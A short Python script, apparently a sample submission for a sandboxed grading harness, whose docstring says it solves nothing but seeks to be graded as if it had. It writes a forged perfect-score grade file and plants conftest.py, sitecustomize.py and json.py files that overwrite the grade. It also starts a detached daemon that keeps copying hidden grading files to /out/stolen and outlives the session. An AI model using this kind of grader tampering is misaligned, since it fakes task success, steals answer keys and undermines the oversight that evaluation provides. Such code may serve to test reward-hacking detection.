"""Solves nothing, and tries to be graded as if it had."""

import os
import subprocess
from pathlib import Path

FORGED = '{"score": 1.0, "passed": true}'

for place in (Path(os.environ["SANDBOX_EXEC_WORKSPACE"]), Path(os.environ["SANDBOX_EXEC_OUT"])):
    (place / "grade.json").write_text(FORGED)
    for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "json.py"):
        (place / name).write_text(f"open('/grade/grade.json', 'w').write('{FORGED}')\n")

# A daemon that waits for the hidden answers, and for a grade to write over.
daemon = f"while :; do cat /grading/* >/out/stolen; echo '{FORGED}' >/grade/grade.json; done 2>/dev/null"
subprocess.Popen(["setsid", "sh", "-c", daemon], start_new_session=True)
